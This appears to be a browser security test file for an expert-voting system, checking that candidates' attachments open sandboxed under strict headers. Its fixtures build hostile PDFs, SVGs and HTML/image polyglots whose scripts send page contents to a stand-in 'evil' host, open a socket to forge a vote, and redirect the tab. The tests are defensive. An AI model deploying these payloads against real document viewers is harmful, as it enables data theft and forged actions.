// SPDX-License-Identifier: Apache-2.0
/**
 * Rule: a candidate's file opens in a tab that can do nothing else, and what is not the manifest's is not shown.
 * Harm: a dossier with a program in it votes in its reader's name, or tells somebody outside what is read in the hall;
 * or one expert reads another dossier than the rest.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { faultsOf, launch, openWindow, shoot } from './lib.mjs';
import { Small } from './small.mjs';

const kExpert = 2;
const kPng = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5E'
  + 'rkJggg==', 'base64');
let folder;
let outside;
let small;
let browser;
let page;
/** Whatever asked for anything at an address that is not ours. */
const reached = [];
/** Sockets that any tab has opened. */
const sockets = [];

/** A PDF of these objects, numbered from 1; the first is its catalog. */
function pdfOf(objects) {
  let out = '%PDF-1.7\n';
  const at = objects.map((one, i) => {
    const from = out.length;
    out += `${i + 1} 0 obj\n${one}\nendobj\n`;
    return from;
  });
  const table = at.map((from) => `${String(from).padStart(10, '0')} 00000 n \n`).join('');
  return Buffer.from(`${out}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer
<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${out.length}\n%%EOF`, 'latin1');
}

const kFont = '/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>';
const shown = (text) => {
  const code = `BT /F1 24 Tf 60 200 Td (${text}) Tj ET`;
  return `<< /Length ${code.length} >>\nstream\n${code}\nendstream`;
};
const plainPdf = () => pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents 4 0 R ${kFont} >>`, shown('A PAPER')]);

/** A PDF that does what PDFs can do by themselves, as soon as it is opened. */
function hostilePdf(evil, door) {
  const script = [`app.launchURL("${evil}/launch", true)`,
    `this.submitForm({ cURL: "${evil}/submit", cSubmitAs: "HTML" })`, `this.submitForm("${door}")`,
    `this.getURL("${evil}/get")`, `app.openDoc("${evil}/doc")`,
    `Net.HTTP.request({ cVerb: "GET", cURL: "${evil}/net" })`].map((one) => `try { ${one} } catch (e) {}`).join(' ');
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 6 0 R >> /AcroForm << /Fields [7 0 R] >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents 4 0 R /Annots [7 0 R] /AA << /O 6 0 R >>
      ${kFont} >>`,
    shown('HOSTILE'),
    `<< /S /JavaScript /JS (${script.replace(/[()\\]/g, (one) => `\\${one}`)})
      /Next [<< /S /URI /URI (${evil}/uri) >> << /S /Launch /F (${evil}/file) >>
        << /S /GoToR /F (${evil}/remote) >>] >>`,
    `<< /S /SubmitForm /F << /FS /URL /F (${evil}/page) >> /Flags 4 >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [0 0 100 20] /AA << /Fo 6 0 R /PO 6 0 R >> >>`,
  ]);
}

const hostileScript = (evil) => `
  fetch('../../index.html').then((r) => r.text()).then((t) => fetch('${evil}/stolen?' + t.length));
  fetch('${evil}/fetch'); new Image().src = '${evil}/image'; navigator.sendBeacon('${evil}/beacon');
  const socket = new WebSocket(location.href.replace(/^http/, 'ws').replace(/files.*/, 'door'));
  socket.onopen = () => socket.send('@x vote 1 agree');
  try { opener.location = '${evil}/opener'; } catch (e) {}
  try { top.location = '${evil}/top'; } catch (e) {}`;

const hostileSvg = (evil) => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"
  xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200" onload="fetch('${evil}/onload')"><rect width="300" height="200" fill="red"/>
  <image xlink:href="${evil}/picture" width="10" height="10"/><style>@import url(${evil}/style);</style>
  <foreignObject width="300" height="200"><body xmlns="http://www.w3.org/1999/xhtml">
  <form action="${evil}/form" method="post"><input name="a" value="b"/></form><iframe src="${evil}/frame"/></body>
  </foreignObject><script><![CDATA[${hostileScript(evil)}]]></script></svg>`);

const hostileHtml = (evil) => `<html><script>${hostileScript(evil)}</script><body onload="fetch('${evil}/body')">`
  + `<img src="${evil}/img"><meta http-equiv="refresh" content="0;url=${evil}/refresh">`;

function put(path, bytes) {
  mkdirSync(join(folder, path, '..'), { recursive: true });
  writeFileSync(join(folder, path), bytes);
}

/** Clicks a file's name on the page. @returns the tab, when nothing happens in it any more */
async function openFile(question, index) {
  const link = page.locator(`.attachments a[href="files/${question}/${index}"]`);
  const [tab] = await Promise.all([page.context().waitForEvent('page'), link.click()]);
  tab.setDefaultTimeout(30_000);
  await tab.waitForLoadState();
  return tab;
}

/** The answer to the tab's own address, once the file is there. */
async function answerOf(tab) {
  for (let i = 0; i < 100; i += 1) {
    const answer = await page.context().request.get(tab.url());
    const type = answer.headers()['content-type'];
    if (!type.startsWith('text/html')) return answer;
    await page.waitForTimeout(300);
  }
  throw new Error('the file never came');
}

before(async () => {
  folder = mkdtempSync(join(tmpdir(), 'piaojue-materials-'));
  outside = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`);
    response.end('outside');
  });
  await new Promise((done) => outside.listen(0, '127.0.0.1', done));
  const evil = `http://127.0.0.1:${outside.address().port}`;
  put('1/1-论文.pdf', plainPdf());
  put('1/2-证书.png', kPng);
  put('2/1-hostile.pdf', hostilePdf(evil, `${evil}/door`));
  put('2/2-picture.png', Buffer.concat([kPng.subarray(0, 8), hostileSvg(evil)]));
  put('2/3-page.pdf', Buffer.from(`%PDF-${hostileHtml(evil)}`));
  put('2/4-page.jpg', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from(hostileHtml(evil))]));
  put('3/1-exchanged.pdf', Buffer.from('%PDF-1.7 what the office gave'));
  small = await Small.make(3, { materials: folder });
  await small.start([1, kExpert, 3, 4, 5, 6, 7, 8, 9]);
  await small.openMeeting();
  browser = await launch();
  page = await openWindow(browser);
  page.context().on('page', (tab) => tab.on('websocket', (socket) => sockets.push(socket.url())));
  await page.goto(small.urls.get(kExpert));
  await page.waitForSelector('main h1');
}, { timeout: 240_000 });

after(async () => {
  await browser?.close();
  outside?.close();
  await small?.stop();
  if (folder) rmSync(folder, { recursive: true, force: true });
}, { timeout: 60_000 });

/** The viewer's own frame has the file: before that a PDF's actions have had no time, and its picture is empty. */
async function viewed(tab) {
  const devtools = await browser.newBrowserCDPSession();
  for (let i = 0; i < 100; i += 1) {
    const { targetInfos } = await devtools.send('Target.getTargets');
    if (targetInfos.some((one) => one.type === 'iframe' && one.url === tab.url())) {
      await devtools.detach();
      return tab.waitForTimeout(2000);
    }
    await tab.waitForTimeout(300);
  }
  throw new Error('no viewer has the file');
}

/** What a file has tried has had its time; then nothing of it has come anywhere. */
async function reachedNothing(tab, what) {
  const address = tab.url();
  await tab.waitForTimeout(2500);
  assert.deepEqual(reached, [], `${what}: another origin`);
  assert.deepEqual(sockets, [], `${what}: the door`);
  assert.equal(tab.url(), address, `${what}: its tab went elsewhere`);
  // The page has its door still, which a second socket would have taken over.
  assert.equal((await small.ask(kExpert, 'status')).ok, true);
  assert.equal(await page.locator('main h1').count() > 0, true, what);
}

test('while one waits the page names the files of each candidate, with their sizes', async () => {
  const links = page.locator('.room-candidates > li').first().locator('.attachments li');
  await links.first().waitFor();
  assert.deepEqual((await links.allInnerTexts()).map((one) => one.trim().split(/\s+/)[0]),
    ['1-论文.pdf', '2-证书.png']);
  assert.match(await links.first().innerText(), /1 千字节/);
  const faults = await faultsOf(page, 'materials-page');
  assert.deepEqual(faults.filter((one) => !/\.(pdf|png|jpg)$/.test(one)), []);
});

test('a file opens under its own name, with the type that its name says', async () => {
  const tab = await openFile(1, 0);
  const answer = await answerOf(tab);
  const headers = answer.headers();
  assert.equal(headers['content-type'], 'application/pdf');
  assert.equal(headers['x-content-type-options'], 'nosniff');
  assert.match(headers['content-security-policy'], /^sandbox; default-src 'none';/);
  assert.equal(headers['content-disposition'], `inline; filename*=UTF-8''1-${encodeURIComponent('论文')}.pdf`);
  assert.equal(headers['cache-control'], 'no-store');
  await viewed(tab);
  await shoot(tab, 'material-pdf', false);
  await tab.close();
  const picture = await openFile(1, 1);
  await answerOf(picture);
  await picture.waitForTimeout(1500);
  assert.deepEqual(await picture.evaluate(() => [document.images.length, document.images[0]?.naturalWidth, origin]),
    [1, 1, 'null'], 'a picture, in an origin of its own');
  await picture.close();
});

test('a hostile PDF reaches neither the door nor another origin', async () => {
  const tab = await openFile(2, 0);
  await answerOf(tab);
  await viewed(tab);
  await shoot(tab, 'material-hostile-pdf', false);
  await reachedNothing(tab, 'a PDF with actions');
  await tab.close();
});

test('what only begins as a picture or a PDF is a broken one, and runs nothing', async () => {
  for (const index of [1, 2, 3]) {
    const tab = await openFile(2, index);
    const { 'content-type': type } = (await answerOf(tab)).headers();
    assert.match(type, /^(image\/png|application\/pdf|image\/jpeg)$/);
    await tab.waitForTimeout(1200);
    await reachedNothing(tab, `file ${index}`);
    await tab.close();
  }
});

test('the policy would hold an SVG and an HTML page, too', async () => {
  const evil = `http://127.0.0.1:${outside.address().port}`;
  const tab = await openFile(1, 1);
  const headers = (await answerOf(tab)).headers();
  const address = tab.url();
  await tab.close();
  for (const [type, body] of [['image/svg+xml', hostileSvg(evil)], ['text/html', Buffer.from(hostileHtml(evil))]]) {
    await page.context().route(address, (route) => route.fulfill({ status: 200, headers: { ...headers,
      'content-type': type, 'content-length': String(body.length) }, body }));
    const again = await openFile(1, 1);
    await reachedNothing(again, type);
    assert.equal(await again.evaluate(() => origin), 'null');
    await again.close();
    await page.context().unroute(address);
  }
});

test('without the cookie there is no file, and no other way to one', async () => {
  const tab = await openFile(1, 0);
  const address = tab.url();
  await tab.close();
  assert.equal((await fetch(address)).status, 403);
  assert.equal((await fetch(address.replace(/\/files.*/, '/files/../files/1/0'))).status, 403);
});

test('a file that somebody has exchanged on the server is refused in words', async () => {
  const hash = createHash('sha256').update('%PDF-1.7 what the office gave').digest('hex');
  const at = join(small.meeting.serverDirectory, 'materials', hash);
  assert.ok(readdirSync(join(small.meeting.serverDirectory, 'materials')).includes(hash));
  writeFileSync(at, '%PDF-1.7 what others gave it '.padEnd('%PDF-1.7 what the office gave'.length));
  const tab = await openFile(3, 0);
  await tab.waitForFunction(() => document.body.innerText.includes('没有显示'));
  assert.match(await tab.innerText('main'), /1-exchanged\.pdf/);
  assert.match(await tab.innerText('[lang=en]'), /neither shown nor kept/);
  tab.complaints = [];
  assert.deepEqual((await faultsOf(tab, 'material-refused')).filter((one) => !/exchanged\.pdf/.test(one)), []);
  // Put back, and loaded again: it is there.
  writeFileSync(at, '%PDF-1.7 what the office gave');
  await tab.reload();
  assert.equal((await answerOf(tab)).headers()['content-type'], 'application/pdf');
  await tab.close();
});
